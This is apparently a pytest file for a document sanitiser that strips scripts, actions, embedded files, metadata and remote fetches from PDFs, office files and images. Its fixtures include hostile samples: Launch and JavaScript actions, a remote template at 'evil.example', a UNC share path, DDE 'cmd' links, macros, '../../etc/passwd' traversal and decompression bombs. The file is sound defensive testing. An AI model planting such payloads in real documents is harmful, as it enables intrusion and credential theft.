"""Documents are told by what they are, and written again without what they do, enclose or know."""

import contextlib
import io
import time
import zipfile
import zlib

import pikepdf
import pypdf
import pytest
import time_machine
import weasyprint
from pikepdf import Array, Dictionary, Name
from PIL import Image

from showcase.applications.files import documents, pdfs
from showcase.applications.files.bare import bare
from showcase.applications.files.reliance import MOST_ADDRESSES
from showcase.applications.files.taking import RefusedError
from showcase.applications.models import Attachment
from tests.applications.handed import (
    CATALOGUE,
    MAIN,
    SECRET,
    exif,
    kept,
    lzw,
    new_pdf,
    notes,
    office,
    open_document,
    packed_pdf,
    parts_of,
    pdf,
    photograph,
    picture,
    relations,
    saved,
    script,
    taken,
    zipped,
)

LINK = "hyperlink"


def clean(document: pikepdf.Pdf) -> pikepdf.Pdf:
    """What is kept of it."""
    return pikepdf.open(io.BytesIO(pdfs.written_again(saved(document), 300)))


def test_a_pdf_loses_what_it_does_and_who_wrote_it(nora):
    sent = b"<html><script>hello</script></html>\n" + pdf(OpenAction=script(), AA=Dictionary(WC=script()))
    attachment = taken(nora, sent + b"\nPK\x03\x04 a zip", "rapport.html")
    assert (attachment.name, attachment.content_type) == ("rapport.pdf", "application/pdf")
    content = kept(attachment)
    assert content.startswith(b"%PDF-")
    assert content.rstrip().endswith(b"%%EOF")
    for gone in (b"JavaScript", b"alert", b"html", SECRET.encode(), b"a zip"):
        assert gone not in content
    with pikepdf.open(io.BytesIO(content)) as document:
        assert len(document.pages) == 1
        assert "/OpenAction" not in document.Root
        assert "/Metadata" not in document.Root
        assert not document.docinfo


def test_what_a_pdf_encloses_is_gone():
    document = new_pdf()
    document.attachments["virus.exe"] = b"MZ a program"
    enclosed = document.attachments["virus.exe"].obj
    document.Root.AF = Array([enclosed])
    document.Root.StructTreeRoot = document.make_indirect(
        Dictionary(
            Type=Name.StructTreeRoot,
            K=document.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, AF=Array([enclosed]))),
        )
    )
    kept = clean(document)
    assert not kept.attachments
    assert "/K" in kept.Root.StructTreeRoot
    assert b"a program" not in saved(kept)
    assert b"virus" not in saved(kept)


@pytest.mark.parametrize(
    "action",
    [
        Dictionary(S=Name.Launch, F="calc.exe"),
        Dictionary(S=Name.JavaScript, JS="calc"),
        Dictionary(S=Name.SubmitForm, F="https://calc.example"),
        Dictionary(S=Name.GoToR, F="calc.pdf"),
        Dictionary(S=Name.URI, URI="javascript:calc"),
        Dictionary(S=Name.URI, URI="file:///calc"),
    ],
)
def test_links_of_a_pdf_stay_and_other_actions_go(action):
    document = new_pdf()
    good = Dictionary(S=Name.URI, URI="https://example.org", Next=action)
    notes(document, good, action)
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Chapter", action=action))
        outline.root.append(pikepdf.OutlineItem("Second", 0))
    kept = clean(document)
    links = list(kept.pages[0].Annots)
    assert [str(note.get("/A", {}).get("/URI", "")) for note in links] == ["https://example.org", ""]
    assert b"calc" not in saved(kept)
    with kept.open_outline() as outline:
        assert [item.title for item in outline.root] == ["Chapter", "Second"]
        assert outline.root[1].destination is not None


def test_what_is_filled_in_a_form_is_kept_as_it_looks_and_the_form_is_gone():
    document = new_pdf()
    look = pikepdf.Stream(document, b"BT /F1 12 Tf (12 familles) Tj ET")
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 90, 20])
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T="combien",
        V="12 familles",
        F=4,
        Rect=[10, 10, 100, 30],
        AP=Dictionary(N=document.make_indirect(look)),
        AA=Dictionary(K=script()),
    )
    document.pages[0].Annots = Array([document.make_indirect(field)])
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots, XFA=document.make_stream(b"<xdp/>"))
    kept = clean(document)
    assert "/AcroForm" not in kept.Root
    assert not list(kept.pages[0].get("/Annots", []))
    drawn = b"".join(found.read_bytes() for found in kept.objects if isinstance(found, pikepdf.Stream))
    assert b"12 familles" in drawn
    assert b"alert" not in saved(kept)


def test_photos_in_a_pdf_forget_where_they_were_taken():
    document = new_pdf()
    photo = pikepdf.Stream(document, photograph())
    photo.Type, photo.Subtype, photo.Filter = Name.XObject, Name.Image, Name.DCTDecode
    photo.Width, photo.Height, photo.ColorSpace, photo.BitsPerComponent = 40, 20, Name.DeviceRGB, 8
    photo.Metadata = document.make_stream(SECRET.encode())
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im=document.make_indirect(photo)))
    kept = clean(document)
    assert SECRET.encode() not in saved(kept, compress_streams=False)
    image = pikepdf.PdfImage(kept.pages[0].Resources.XObject.Im).as_pil_image()
    assert image.size == (40, 20)
    assert not image.getexif()


def test_what_a_picture_knows_is_taken_out_of_it_and_its_pixels_are_not_touched():
    for turn in (1, 6):
        for content in (picture(exif=exif(turn)), b"II*\0".join(picture(exif=exif(turn)).split(b"II*\0"))):
            bared = bare(content, keeps_turn=True)
            with Image.open(io.BytesIO(bared)) as image, Image.open(io.BytesIO(content)) as before:
                assert dict(image.getexif()) == {0x0112: turn}
                assert image.tobytes() == before.tobytes()
            assert SECRET.encode() not in bared
            assert Image.open(io.BytesIO(bare(content))).getexif() == {}
    profile = b"a profile of colours"
    assert profile in bare(picture(icc_profile=profile, comment=b"secret place"))
    assert b"secret place" not in bare(picture(icc_profile=profile, comment=b"secret place"))
    assert SECRET.encode() not in bare(picture("PNG", exif=exif()))
    for other in (b"", b"\xff\xd8\xff", b"\xff\xd8\xff\xe1\xff\xff", b"\x89PNG\r\n\x1a\n\0", b"GIF89a"):
        assert bare(other) in (other, b"\x89PNG\r\n\x1a\n")


def test_a_pdf_keeps_its_words_its_links_and_what_screen_readers_need():
    told = "<html lang=fr><title>T</title><h1>Étude</h1><p>Cent <a href='https://example.org'>familles</a></p></html>"
    content = weasyprint.HTML(string=told).write_pdf(pdf_variant="pdf/ua-1")
    before, after = (
        pypdf.PdfReader(io.BytesIO(data)) for data in (content, pdfs.written_again(content, 300))
    )
    assert after.pages[0].extract_text() == before.pages[0].extract_text() != ""
    root = after.trailer["/Root"]
    assert root["/Lang"] == "fr"
    assert root["/MarkInfo"]["/Marked"]
    assert root["/StructTreeRoot"]["/K"]
    assert [note["/A"]["/URI"] for note in after.pages[0]["/Annots"]] == ["https://example.org"]
    assert [mark.title for mark in after.outline] == ["Étude"]


def test_a_pdf_with_a_password_is_refused_and_one_that_only_forbids_printing_is_not(nora):
    locked = saved(new_pdf(), encryption=pikepdf.Encryption(owner="x", user="y"))
    with pytest.raises(RefusedError, match="mot de passe"):
        taken(nora, locked)
    forbids = saved(new_pdf(), encryption=pikepdf.Encryption(owner="x", user=""))
    with pikepdf.open(io.BytesIO(kept(taken(nora, forbids)))) as document:
        assert not document.is_encrypted


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + b"junk" * 40,
        pdf()[:200],
        saved(new_pdf(20), object_stream_mode=pikepdf.ObjectStreamMode.disable)[:-200],
        saved(pikepdf.new()),
        pdf(Pages=Dictionary(Type=Name.Pages, Kids=Array([1, 2]), Count=2)),
    ],
    ids=["junk", "cut", "almost", "empty", "pages"],
)
def test_a_broken_pdf_is_refused(nora, content):
    with pytest.raises(RefusedError):
        taken(nora, content)
    assert not Attachment.objects.exists()


def test_a_long_pdf_and_a_form_of_one_program_are_refused_with_what_to_do(nora, monkeypatch):
    monkeypatch.setattr(documents, "MOST_PAGES", 2)
    assert taken(nora, saved(new_pdf(2)))
    with pytest.raises(RefusedError, match="2"):
        taken(nora, saved(new_pdf(3)))
    with pytest.raises(RefusedError, match="form"):
        taken(nora, pdf(NeedsRendering=True))


@pytest.mark.parametrize("packing", ["FlateDecode", "LZWDecode"])
def test_a_pdf_that_unpacks_without_end_is_refused(nora, packing):
    small = lzw(10) if packing == "LZWDecode" else zlib.compress(CATALOGUE)
    assert taken(nora, packed_pdf(small, packing.encode()))
    vast = lzw(10**9) if packing == "LZWDecode" else _deflated_spaces(4 * 10**8)
    began = time.monotonic()
    with pytest.raises(RefusedError):
        taken(nora, packed_pdf(vast, packing.encode()))
    assert time.monotonic() - began < 20


def _deflated_spaces(size: int) -> bytes:
    packer = zlib.compressobj(9)
    packed = [packer.compress(CATALOGUE)]
    packed += [packer.compress(b" " * 10_000_000) for _ in range(size // 10_000_000)]
    return b"".join([*packed, packer.flush()])


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (office(), ".docx"),
        (office(kind="spreadsheetml.sheet"), ".xlsx"),
        (office(kind="presentationml.presentation"), ".pptx"),
        (open_document(), ".odt"),
        (open_document("spreadsheet"), ".ods"),
        (open_document("presentation"), ".odp"),
    ],
    ids=["docx", "xlsx", "pptx", "odt", "ods", "odp"],
)
def test_office_files_are_told_by_what_they_hold(nora, content, extension):
    attachment = taken(nora, content, "rapport.exe")
    assert attachment.name == f"rapport{extension}"
    parts = parts_of(kept(attachment))
    assert SECRET.encode() not in b"".join(parts.values())
    assert next(iter(parts)) in ("mimetype", "[Content_Types].xml")


def test_the_same_office_file_is_packed_the_same_whenever():
    sent = office()
    with time_machine.travel("2031-01-01"):
        later = documents.written_again(sent)
    assert documents.written_again(sent) == later


def test_an_office_file_forgets_who_wrote_it(nora):
    properties = "application/vnd.openxmlformats-package.core-properties+xml"
    elsewhere = f'<Override PartName="/odd/place.xml" ContentType="{properties}"/>'
    by_extension = f'<Default Extension="psmdcp" ContentType="{properties}"/>'
    names = ("odd/place.xml", "package/core.psmdcp")
    parts = dict.fromkeys(names, f"<a>{SECRET}</a>".encode())
    photo = {"word/media/photo.jpeg": photograph()}
    left = parts_of(kept(taken(nora, office(parts | photo, more=elsewhere + by_extension))))
    assert SECRET.encode() not in b"".join(left.values())
    assert all(b"coreProperties" in left[name] for name in names)
    with Image.open(io.BytesIO(left["word/media/photo.jpeg"])) as image:
        assert dict(image.getexif()) == {0x0112: 6}


def test_an_office_file_fetches_nothing_when_it_is_opened_and_keeps_its_links(nora):
    told = relations(
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("image", r"\\evil.example\share"),
        (LINK, "https://example.org/etude"),
        (LINK, "file:///evil.example"),
    )
    name = "word/_rels/settings.xml.rels"
    utf_16 = told.decode().encode("utf-16")
    for called, rows in ((name, told), (name, utf_16), (name.upper(), told)):
        left = parts_of(kept(taken(nora, office({called: rows}))))[called]
        assert b"evil.example" not in left
        assert b"https://example.org/etude" in left
    inside = told.replace(b'TargetMode="External"', b"")
    assert parts_of(documents.written_again(office({name: inside}))[0])[name] == inside


def test_an_open_document_fetches_nothing_when_it_is_opened_and_keeps_its_links(nora):
    content = (
        b'<o><d:image x:href="Pictures/1.png"/><d:image x:href="https://evil.example/1.png"/>'
        b"<d:object x:href='../../evil.example'/><d:image x:href=\"h&#116;tps://evil.example/2\"/>"
        b'<t:a x:type="simple" x:href="https://example.org/etude">x</t:a><t:a x:href="#chapter">y</t:a></o>'
    )
    left = parts_of(kept(taken(nora, open_document(parts={"content.xml": content}))))["content.xml"]
    assert b"evil.example" not in left
    for stays in (b'"Pictures/1.png"', b'"https://example.org/etude"', b'"#chapter"'):
        assert stays in left


def test_what_is_no_part_of_an_open_document_is_looked_through_all_the_same(nora):
    """Text that stands in no tag; and one tag that does not end, which takes no longer for its length."""
    loose = b' href="https://evil.example"'
    for content in (loose, b"<t:a" + loose * 40_000):
        began = time.process_time()
        left = parts_of(kept(taken(nora, open_document(parts={"content.xml": content}))))["content.xml"]
        assert time.process_time() - began < 5
        assert len(left) < len(content)


def test_the_table_of_a_chart_is_packed_again_with_its_slides(nora):
    told = "application/vnd.openxmlformats-package.core-properties+xml"
    table = office(
        {"docProps/core.xml": f"<a>{SECRET}</a>".encode()},
        kind="spreadsheetml.sheet",
        more=f'<Override PartName="/docProps/core.xml" ContentType="{told}"/>',
    )
    name = "ppt/embeddings/Sheet1.xlsx"
    left = parts_of(kept(taken(nora, office({name: table}, kind="presentationml.presentation"))))
    inner = parts_of(left[name])
    assert MAIN["spreadsheetml.sheet"] in inner
    assert SECRET.encode() not in inner["docProps/core.xml"]


def with_types(more: str, parts: dict[str, bytes] | None = None) -> bytes:
    return office(parts, more=more)


def twice() -> bytes:
    parts = [*parts_of(office()).items(), ("WORD/document.xml", b"<other/>")]
    return zipped(parts)


MACRO = '<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
LISTENER = b'<o><s:event-listener s:language="ooo:script" x:href="vnd.sun.star.script:a"/></o>'
# The same, of signs that only who reads the whole of it puts together.
HIDDEN_LISTENER = (
    b"<!DOCTYPE o [<!ENTITY e '&#60;s:event-listener x:href=\"vnd.sun.star.script:a\"/>'>]><o>&e;</o>"
)
CHUNK = b'<R xmlns="r"><Relationship Id="c" Target="chunk.rtf" Type="http://o/relationships/aFChunk"/></R>'
LOCKED = b'<m:manifest><m:encryption-data m:checksum="1"/></m:manifest>'
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@pytest.mark.parametrize(
    "content",
    [
        office({"word/vbaProject.bin": b"Sub AutoOpen"}),
        with_types(MACRO, {"x.bin": b"Sub AutoOpen"}),
        office({"word/embeddings/oleObject1.bin": OLD}),
        office({"word/media/picture.png": b"MZ a program"}),
        office({"word/embeddings/in.docx": office({"word/embeddings/in.docx": office()})}),
        office({"xl/macrosheets/sheet1.xml": b"<x/>"}),
        office({"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'}),
        office({"word/_rels/document.xml.rels": CHUNK, "word/chunk.rtf": rb"{\rtf1{\object\objemb}}"}),
        office({f"word/_rels/{n}.rels": b"<R>" + b"<R/>" * 200_000 + b"</R>" for n in range(6)}),
        open_document(parts={"Basic/Standard/Module1.xml": b"<x/>"}),
        open_document(parts={"Scripts/python/a.py": b"import os"}),
        open_document(parts={"content.xml": LISTENER}),
        open_document(parts={"content.xml": LISTENER.decode().encode("utf-16")}),
        open_document(parts={"content.xml": HIDDEN_LISTENER}),
        open_document(parts={"content.xml": b'<a office:dde-application="cmd"/>'}),
        open_document(parts={"content.xml": b'<a><b xlink:href="x"/>' * (MOST_ADDRESSES + 1)}),
        open_document(parts={"META-INF/manifest.xml": LOCKED}),
        open_document("text-template"),
        office({"../../etc/passwd": b"x"}),
        office({"/etc/passwd": b"x"}),
        office({"word\\document.xml": b"x"}),
        twice(),
        office() + b"<script>alert(1)</script>",
        b"MZ" + office(),
        office({"word/media/air.bin": b"\0" * 30_000_000}),
        office(packing=zipfile.ZIP_BZIP2),
        office(packing=zipfile.ZIP_LZMA),
        office({"word/_rels/a.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
        office({"word/_rels/a.rels": b"not xml"}),
        zipped([("a.txt", b"text")]),
        zipped([("mimetype", b"application/epub+zip")]),
        office()[:-40],
        picture("GIF") + office(),
        b"MZ\x90 a program",
        b"\x7fELF a program",
        b"<!doctype html><script>alert(1)</script>",
        b"just text",
        b"{\\rtf1 text}",
        OLD + b"an old Word file",
        b"PK\x03\x04 cut short",
        b"\0" * 2000 + pdf(),
    ],
)
def test_other_things_are_refused_with_words_and_nothing_is_kept(nora, content):
    with pytest.raises(RefusedError) as refused:
        taken(nora, content, "rapport.docx")
    assert str(refused.value).endswith(".")
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    "content",
    [office({"word/a.xml": b"<a>words, words, words</a>" * 9}), open_document()],
    ids=["packed", "stored"],
)
def test_a_package_of_which_any_byte_is_damaged_is_taken_or_refused(content):
    for place in range(len(content)):
        for other in (0, 255, content[place] ^ 1):
            damaged = content[:place] + bytes([other]) + content[place + 1 :]
            with contextlib.suppress(RefusedError):
                documents.written_again(damaged)


@pytest.mark.parametrize("words", [b' href="https://evil.example"', b'<o>< href="../a"/></o>'])
def test_an_address_in_what_is_no_xml_is_refused(words):
    with pytest.raises(RefusedError):
        documents.written_again(open_document(parts={"content.xml": words}))


def test_a_bomb_within_a_bomb_is_counted_as_one(nora, monkeypatch):
    table = office({"xl/air.xml": b" " * 1_000_000}, kind="spreadsheetml.sheet", packing=zipfile.ZIP_DEFLATED)
    monkeypatch.setattr("showcase.applications.files.office.MOST_RATIO", 10_000)
    parts = {f"ppt/embeddings/{number}.xlsx": table for number in range(5)}
    slides = office(parts, kind="presentationml.presentation")
    assert documents.written_again(slides)
    monkeypatch.setattr("showcase.applications.files.office.MOST_UNPACKED", 3_000_000)
    with pytest.raises(RefusedError):
        taken(nora, slides)


def test_an_image_may_be_evidence(nora):
    attachment = taken(nora, photograph(), "preuve.pdf")
    assert (attachment.kind, attachment.name) == ("image", "preuve.jpg")
    with pytest.raises(RefusedError, match="HEIC"):
        taken(nora, b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 50)
